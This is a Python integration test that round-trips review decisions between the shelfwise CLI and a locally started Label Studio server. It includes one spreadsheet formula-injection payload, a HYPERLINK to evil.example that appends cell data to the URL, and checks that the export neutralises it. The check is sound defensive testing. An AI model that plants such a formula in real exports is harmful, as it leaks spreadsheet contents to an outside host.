"""A real Label Studio 1.23.2 imports our export and its own export reads back with `shelfwise review import`.

Label Studio runs from its own venv (heavy pinned dependencies that must not touch ours): `.ci/run` builds
it at `.venv-ls` (override with SHELFWISE_LABEL_STUDIO=/path/to/bin/label-studio). The server is started
here on 127.0.0.1 with a throw-away data folder, its admin user and API token set on the command line.
Without that venv the test skips on a developer's machine and fails under CI=true.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from typer.testing import CliRunner

from shelfwise.cli._review import review_app
from verification.exchange import restore
from verification.store import QueueStore

REPO = Path(__file__).resolve().parents[2]
LS_BIN = Path(os.environ.get("SHELFWISE_LABEL_STUDIO", REPO / ".venv-ls" / "bin" / "label-studio"))
TOKEN = "shelfwise-test-token-0123456789"
STARTUP_TIMEOUT = float(os.environ.get("SHELFWISE_LABEL_STUDIO_TIMEOUT", "600"))
EVIL_NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"details")'


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.fixture(scope="module")
def label_studio(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    if not LS_BIN.is_file():
        message = (
            f"Label Studio is not installed at {LS_BIN}; build its venv as .ci/run does: "
            "python3 -m venv .venv-ls && .venv-ls/bin/pip install label-studio==1.23.2"
        )
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    data_dir = tmp_path_factory.mktemp("label-studio")
    port = _free_port()
    env = {
        **os.environ,
        "LABEL_STUDIO_BASE_DATA_DIR": str(data_dir),
        "LATEST_VERSION_CHECK": "false",  # no call to PyPI at start
        "COLLECT_ANALYTICS": "false",
        "LABEL_STUDIO_DISABLE_SIGNUP_WITHOUT_LINK": "true",
        "DJANGO_DB": "sqlite",
    }
    log_path = data_dir / "server.log"
    command = [
        str(LS_BIN),
        "start",
        "--no-browser",
        "--internal-host",
        "127.0.0.1",
        "--port",
        str(port),
        "--data-dir",
        str(data_dir),
        "--username",
        "admin@shelfwise.test",
        "--password",
        "label-studio-test-pw",
        "--user-token",
        TOKEN,
        "--enable-legacy-api-token",
    ]
    with log_path.open("wb") as log:
        proc = subprocess.Popen(
            command,
            env=env,
            stdout=log,
            stderr=subprocess.STDOUT,
            stdin=subprocess.DEVNULL,
            start_new_session=True,
        )
    client = httpx.Client(
        base_url=f"http://127.0.0.1:{port}", headers={"Authorization": f"Token {TOKEN}"}, timeout=120
    )
    started = time.monotonic()
    try:
        while True:
            if proc.poll() is not None:
                pytest.fail(f"Label Studio exited with {proc.returncode}: {log_path.read_text()[-3000:]}")
            try:
                if client.get("/health").status_code == 200:
                    break
            except httpx.TransportError:
                pass
            if time.monotonic() - started > STARTUP_TIMEOUT:
                pytest.fail(
                    f"Label Studio not up after {STARTUP_TIMEOUT:.0f} s: {log_path.read_text()[-3000:]}"
                )
            time.sleep(1.0)
        print(f"Label Studio up after {time.monotonic() - started:.0f} s")
        yield client
    finally:
        client.close()
        os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait(timeout=30)
        shutil.rmtree(data_dir, ignore_errors=True)


def _decide(store: QueueStore, tax: Any) -> dict[str, tuple[str, str | None]]:
    """Eight decisions by 'rev01' (not a Label Studio user), one with a formula note; sku -> (kind, id)."""
    out: dict[str, tuple[str, str | None]] = {}
    kinds = ("accept", "choose", "not_product", "needs_data")
    for i, item in enumerate(store.claim("low_confidence", "rev01", limit=8)):
        kind = kinds[i % 4]
        if kind == "choose":
            node = tax.find_path(item.current_category_path)
            store.decide(
                item.id,
                "rev01",
                kind,
                category_id=node.id,
                category_path=node.path,
                note=EVIL_NOTE,
                duration_ms=1500,
            )
            out[item.sku_id] = (kind, node.id)
        else:
            store.decide(item.id, "rev01", kind)
            out[item.sku_id] = (kind, item.suggested_category_id if kind == "accept" else None)
    return out


@pytest.mark.timeout(900)  # Label Studio's first start (database creation) alone took 219-245 s here
def test_label_studio_imports_the_export_and_its_own_export_reads_back(
    label_studio: httpx.Client, make_frame, amazon, tmp_path: Path
) -> None:
    _, tax = amazon
    tax_file = Path(tax.source)
    source_url = f"sqlite:///{tmp_path / 'source.db'}"
    with QueueStore(source_url, bcrypt_rounds=4) as source:
        source.upgrade()
        source.enqueue(make_frame(8, queues=("low_confidence",)), run_id="r1")
        decided = _decide(source, tax)
        labels = {r["sku_id"]: r["category_id"] for r in source.labels().iter_rows(named=True)}

    runner = CliRunner()
    tasks_path, config_path = tmp_path / "tasks.json", tmp_path / "config.xml"
    res = runner.invoke(
        review_app, ["export", "--format", "labelstudio", "-o", str(tasks_path), "--db-url", source_url]
    )
    assert res.exit_code == 0, res.output
    res = runner.invoke(
        review_app,
        ["export", "--format", "labelstudio-config", "--taxonomy", str(tax_file), "-o", str(config_path)],
    )
    assert res.exit_code == 0, res.output
    tasks = json.loads(tasks_path.read_text())
    assert len(tasks) == 8 and all("completed_by" not in a for t in tasks for a in t["annotations"])
    note_cells = [t["meta"]["note"] for t in tasks if t["meta"]["note"]]
    assert note_cells == ["'" + EVIL_NOTE] * 2  # neutralised for a spreadsheet opening Label Studio's CSV

    resp = label_studio.post(
        "/api/projects", json={"title": "shelfwise", "label_config": config_path.read_text()}
    )
    assert resp.status_code == 201, resp.text
    project = resp.json()["id"]
    resp = label_studio.post(f"/api/projects/{project}/import", json=tasks)
    assert resp.status_code == 201, resp.text
    counts = resp.json()
    assert (counts["task_count"], counts["annotation_count"], counts["prediction_count"]) == (8, 8, 8)

    resp = label_studio.get(f"/api/projects/{project}/export", params={"exportType": "JSON"})
    assert resp.status_code == 200, resp.text
    exported = resp.json()
    assert len(exported) == 8
    assert {restore(t["data"]["sku_id"]) for t in exported} == set(decided)
    ls_path = tmp_path / "from-label-studio.json"
    ls_path.write_bytes(resp.content)

    target_url = f"sqlite:///{tmp_path / 'target.db'}"
    res = runner.invoke(
        review_app,
        ["import", str(ls_path), "--format", "labelstudio", "--reviewer", "importer", "--db-url", target_url],
    )
    assert res.exit_code == 0, res.output
    assert "8 decisions imported" in res.output
    with QueueStore(target_url) as target:
        assert {r["sku_id"]: r["category_id"] for r in target.labels().iter_rows(named=True)} == labels
        log = {r["sku_id"]: r for r in target.decisions_frame().iter_rows(named=True)}
    assert {sku: row["kind"] for sku, row in log.items()} == {sku: v[0] for sku, v in decided.items()}
    assert all("original reviewer rev01" in row["note"] for row in log.values())  # kept in the task meta
    chosen = [row for row in log.values() if row["kind"] == "choose"]
    assert chosen and all(EVIL_NOTE in row["note"] for row in chosen)  # the note itself comes back intact
    assert all(row["duration_ms"] == 1500 for row in chosen)
